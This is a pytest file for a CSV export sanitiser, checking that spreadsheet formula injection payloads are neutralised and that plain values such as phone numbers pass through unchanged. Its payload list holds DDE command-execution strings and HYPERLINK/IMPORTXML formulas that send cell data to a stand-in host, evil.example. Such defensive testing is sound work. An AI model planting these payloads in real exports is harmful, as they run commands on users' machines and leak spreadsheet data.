"""What a spreadsheet program would run is made text; what is only a number stays one."""

import csv
import io
import re

import pytest

from tenants.exports.formulas import harmless

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1-1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "|calc",
    "%0A=1+1",
    "x;=1+1",
    "x,=cmd|' /C calc'!A0",
    "x\t@SUM(1)",
    "x\r\n=1+1",
    'x";=HYPERLINK("http://evil.example")',
]
BEGINS_FORMULA = re.compile(r"[\s\"\u00a0\ufeff]*[=+\-@|%\uff0b\uff0d\uff1d\uff20]")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_begins_a_formula_whatever_the_reader_takes_for_a_separator(payload: str, separator: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow(["a", harmless(payload), "b"])
    cells = [cell for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator) for cell in row]
    assert [cell for cell in cells if BEGINS_FORMULA.match(cell)] == []


@pytest.mark.parametrize(
    "plain",
    [
        "-12",
        "-12,50",
        "+3.5",
        "+358401234567",
        "+358 40 123 4567",
        "+358-40-1234567",
        "Ada-Maria",
        "1+1",
        "a=b",
        "ada@firma.example",
        "Äyskärikatu 3, 00100 Helsinki",
        "31.12.2026",
        "",
        "0",
    ],
)
def test_what_is_no_formula_stays_as_it_is(plain: str) -> None:
    assert harmless(plain) == plain


def test_nothing_of_the_text_is_lost() -> None:
    for payload in PAYLOADS:
        assert harmless(payload).replace("'", "") == payload.replace("'", "")
